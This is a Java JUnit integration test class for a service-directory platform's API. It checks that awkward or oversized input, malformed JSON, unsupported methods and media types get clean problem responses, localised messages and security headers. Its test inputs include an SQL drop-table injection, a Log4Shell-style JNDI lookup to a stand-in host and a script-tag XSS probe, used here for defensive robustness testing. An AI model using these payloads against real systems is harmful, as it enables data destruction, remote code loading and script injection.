package org.samen.platform.api;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.samen.platform.api.Entries.added;
import static org.samen.platform.api.Entries.anEntry;
import static org.samen.platform.api.Entries.path;
import static org.samen.platform.api.Entries.with;

import jakarta.json.JsonObject;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.samen.platform.RunningPlatform;

/** What nobody would type, and somebody will send: an answer or a problem, never a surprise. */
@ExtendWith(RunningPlatform.class)
class AwkwardInputIT {
  private static final String LISTS = Entries.PATH + "?q=";
  private static final String HSDS = "/api/hsds/3.0/services?search=";

  private final Calls sanne = Calls.as("sanne@openspreekkamer.example");

  @Test
  void anySearchIsAnsweredOrRefusedAsTooLong() {
    for (String search :
        List.of(
            "a".repeat(50_000),
            "tolk ".repeat(10_000),
            "\u0000",
            "tol\u0000k",
            "'; drop table directory.service; --",
            "\"quoted\" & | ! ( ) : * <-> \\ % _",
            "\u202etolk\u202c \u200f\u0639\u0631\u0628\u064a",
            "\ud83d\ude00 caf\u00e9 \u1d400",
            "   ",
            "%00",
            "${jndi:ldap://x.example/a}")) {
      for (Answer answer :
          List.of(
              sanne.get(LISTS + Calls.encoded(search)),
              sanne.get(HSDS + Calls.encoded(search)),
              Calls.asGuest().get(HSDS + Calls.encoded(search)),
              Calls.as("youssef@openspreekkamer.example")
                  .get("/api/v1/people?q=" + Calls.encoded(search)))) {
        assertTrue(
            answer.status() == 200 || answer.status() == 400,
            () -> search.substring(0, Math.min(40, search.length())) + ": " + answer);
        if (answer.status() == 400) {
          answer.mustBeProblem(400, "rule.invalid-fields");
        }
      }
    }
    for (String brokenUtf8 : List.of("%ED%A0%80", "%FF%FE", "%C0%AF")) {
      assertTrue(sanne.get(LISTS + brokenUtf8).status() < 500, brokenUtf8);
    }
    assertTrue(sanne.get(LISTS + "tolk").mustBe(200).json().getInt("total") > 0);
  }

  @Test
  void quotesAndScriptsOfAnyDirectionAreTextLikeAnyOther() {
    for (String name :
        List.of(
            "L'inloop \"de brug\" \\ %s ${x} {{y}} 'a'",
            "\u0627\u0644\u0639\u064a\u0627\u062f\u0629 \u202balef\u202c",
            "<script>alert(1)</script> & co",
            "\ud83c\udfe5 spreekuur caf\u00e9")) {
      JsonObject entry = anEntry(name);
      assertEquals(name, added(sanne, entry).getString("name"));
      assertEquals(name, sanne.get(path(entry)).mustBe(200).json().getString("name"));
    }
  }

  @Test
  void whatNoTextMayHoldIsNamedAtItsField() {
    mustName("name", "rule.control-character", with(anEntry("x"), "name", "nul\u0000byte"));
    mustName(
        "description",
        "rule.control-character",
        with(anEntry("x"), "description", "bel\u0007geluid"));
    mustName("name", "rule.too-long", anEntry("n".repeat(301)));
    mustName(
        "description", "rule.too-long", with(anEntry("x"), "description", "woord ".repeat(9_000)));
  }

  private void mustName(String field, String rule, JsonObject entry) {
    JsonObject problem = sanne.post(Entries.PATH, entry).mustBeProblem(422, "rule.invalid-fields");
    assertTrue(
        problem.getJsonArray("errors").getValuesAs(JsonObject.class).stream()
            .anyMatch(
                error ->
                    error.getString("field").equals(field)
                        && error.getString("rule").equals(rule)
                        && !error.getString("message").isBlank()),
        problem::toString);
  }

  @Test
  void aBodyThatCannotBeReadIsBadInput() {
    for (String body : List.of("", "{", "[]", "null", "\"text\"", "{\"name\": }", "\u0000")) {
      post(body).mustBeProblem(400, "rule.invalid-fields");
    }
    for (String body :
        List.of(
            "{\"name\": 1}",
            "{\"name\": \"x\", \"places\": {}}",
            "{\"name\": \"x\", \"places\": [1]}",
            "{\"name\": \"x\", \"noIdentityDocument\": \"yes\"}",
            "{\"name\": \"x\", \"id\": \"1\"}",
            "{\"name\": \"x\", \"naam\": \"mistyped\"}",
            "{\"name\": \"x\", \"costs\": [{\"amount\": 1e999999999}]}")) {
      post(body).mustBeProblem(400, "rule.invalid-fields");
    }
    post("[".repeat(100_000)).mustBe(400);
    post("{\"name\": \"" + "a".repeat(2_000_000) + "\"}")
        .mustBeProblem(413, "rule.request.too-large");
  }

  @Test
  void whoSendsAllOfALargeBodyBeforeReadingReadsWhyItIsRefused() throws IOException {
    String large = "{\"name\": \"" + "a".repeat(10_000_000) + "\"}";
    assertEquals(413, statusAfterSendingAll(Entries.PATH, large));
    assertEquals(404, statusAfterSendingAll("/api/v1/nowhere", large));
    assertEquals(201, statusAfterSendingAll(Entries.PATH, anEntry("Na het grote").toString()));
  }

  /**
   * As a simple client does it: the whole body, then the answer, then no more of the connection.
   */
  private static int statusAfterSendingAll(String path, String body) throws IOException {
    RunningPlatform platform = RunningPlatform.get();
    URI address = URI.create(platform.url() + path);
    byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
    try (Socket socket = new Socket(address.getHost(), address.getPort())) {
      socket.setSoTimeout(60_000);
      OutputStream out = socket.getOutputStream();
      out.write(
          """
          POST %s HTTP/1.1\r
          Host: %s\r
          Authorization: Bearer %s\r
          Content-Type: application/json\r
          Content-Length: %d\r
          Connection: close\r
          \r
          """
              .formatted(
                  address.getPath(),
                  address.getAuthority(),
                  platform.token("sanne@openspreekkamer.example"),
                  bytes.length)
              .getBytes(StandardCharsets.US_ASCII));
      out.write(bytes);
      out.flush();
      String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
      return Integer.parseInt(answer.split(" ", 3)[1]);
    }
  }

  private Answer post(String body) {
    return sanne.post(Entries.PATH, "application/json", body.getBytes(StandardCharsets.UTF_8));
  }

  @Test
  void whatTheApiDoesNotOfferIsAProblemToo() {
    sanne.get("/api/nowhere").mustBeProblem(404, "rule.not-found");
    sanne.get("/api/v1/nowhere").mustBeProblem(404, "rule.not-found");
    sanne.get(Entries.PATH + "/not-an-id").mustBeProblem(400, "rule.invalid-fields");
    sanne.get(Entries.PATH + "/" + UUID.randomUUID()).mustBeProblem(404, "rule.not-found");
    Answer method = sanne.delete(Entries.PATH);
    method.mustBeProblem(405, "rule.request.method");
    assertTrue(method.header("Allow").contains("GET"), method::toString);
    sanne
        .post(Entries.PATH, "text/plain", new byte[] {'x'})
        .mustBeProblem(415, "rule.request.media-type");
    sanne.with("Accept", "image/png").get("/api/v1/me").mustBeProblem(406, "rule.request.accept");
    for (String query :
        List.of("page=0", "per_page=101", "verified=0", "nodoc=maybe", "role=boss", "sort=best")) {
      sanne.get(Entries.PATH + "?" + query).mustBeProblem(400, "rule.invalid-fields");
    }
  }

  @Test
  void problemsSpeakTheLanguageThatIsAskedFor() {
    String nowhere = Entries.PATH + "/" + UUID.randomUUID();
    Answer dutch = sanne.with("Accept-Language", "nl").get(nowhere);
    Answer english = sanne.with("Accept-Language", "en-GB,en;q=0.8").get(nowhere);
    assertNotEquals(
        dutch.mustBeProblem(404, "rule.not-found").getString("title"),
        english.mustBeProblem(404, "rule.not-found").getString("title"));
    assertEquals("en", english.header("Content-Language"));
    assertEquals(dutch.json(), sanne.with("Accept-Language", "fr,de;q=0.5").get(nowhere).json());
  }

  @Test
  void everyAnswerTellsTheBrowserToTakeCare() {
    for (Answer answer :
        List.of(
            sanne.get("/api/v1/me"),
            Calls.asGuest().get("/api/v1/me"),
            Calls.asGuest().get("/api/hsds/3.0/"),
            Calls.asGuest().get("/public/signed-out"))) {
      assertEquals("nosniff", answer.header("X-Content-Type-Options"), answer::toString);
      assertTrue(
          answer.header("Content-Security-Policy").contains("frame-ancestors 'none'"),
          answer::toString);
      assertTrue(!answer.header("Referrer-Policy").isEmpty(), answer::toString);
    }
  }
}
